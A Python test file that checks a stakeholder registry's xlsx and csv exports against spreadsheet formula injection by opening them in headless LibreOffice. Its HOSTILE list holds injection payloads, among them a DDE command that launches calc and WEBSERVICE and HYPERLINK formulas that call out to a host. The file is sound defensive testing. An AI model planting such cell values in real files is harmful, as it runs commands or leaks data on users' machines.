"""The registry's tables as a spreadsheet program opens them: every cell is there, and none of them is run."""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest

from karki.stakeholders import exporting
from karki.stakeholders.models import ContactDetail, Person
from tests.needs import need

pytestmark = pytest.mark.slow

#: What a program would count, fetch or start if it took the cell for a formula.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+2",
    "@SUM(1;1)",
    "=HYPERLINK(\"http://example.org/?\"&A1;\"Avaa\")",
    "=WEBSERVICE(\"http://example.org/\")",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]  # fmt: skip
ALL_SHEETS = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1"


def opened(path: Path) -> dict[str, list[list[str]]]:
    """The sheets as the program shows them, counted anew."""
    need("soffice", part="/usr/lib/libreoffice/program/libsclo.so")
    out = path.parent / "out"
    profile = f"-env:UserInstallation=file://{path.parent}/profile"
    semicolons = ["--infilter=CSV:59,34,76,1"] if path.suffix == ".csv" else []
    command = [
        "soffice",
        profile,
        "--headless",
        *semicolons,
        "--convert-to",
        ALL_SHEETS,
        "--outdir",
        str(out),
        str(path),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return {
        made.stem.removeprefix(f"{path.stem}-"): list(csv.reader(made.read_text("utf-8").splitlines(), delimiter=";"))
        for made in out.glob("*.csv")
    }


@pytest.fixture
def hostile(house: SimpleNamespace) -> SimpleNamespace:
    """People whose job titles are formulas; Ilta has two telephones."""
    for text in HOSTILE:
        Person.objects.create(city=house.city, name=f"Vieras {text}", title=text, origin=text)
    for number in ("+358 40 1234567", "+358 50 7654321"):
        ContactDetail.objects.create(person=house.ilta, kind="phone", value=number)
    return house


def test_workbook_opens_with_all_its_sheets_and_runs_nothing(hostile: SimpleNamespace, tmp_path: Path) -> None:
    path = tmp_path / "rekisteri.xlsx"
    path.write_bytes(exporting.made(hostile.city, "all", "xlsx"))
    sheets = opened(path)
    assert set(sheets) == {"Organisaatiot", "Tehtävät", "Ryhmät", "Henkilöt"}
    head, *rows = sheets["Henkilöt"]
    titles = {row[head.index("Tehtävänimike")] for row in rows}
    assert set(HOSTILE) <= titles
    (ilta,) = (row for row in rows if row[head.index("Nimi")] == "Ilta Esimerkki")
    assert "+358 40 1234567" in ilta[head.index("Puhelin")]


def test_table_of_text_opens_and_runs_nothing(hostile: SimpleNamespace, tmp_path: Path) -> None:
    """It has an apostrophe where a formula would begin, which the reader of a table takes off again."""
    path = tmp_path / "rekisteri.csv"
    path.write_bytes(exporting.made(hostile.city, "people", "csv"))
    ((head, *rows),) = opened(path).values()
    titles = {row[head.index("Tehtävänimike")] for row in rows}
    assert {f"'{text}" for text in HOSTILE} <= titles
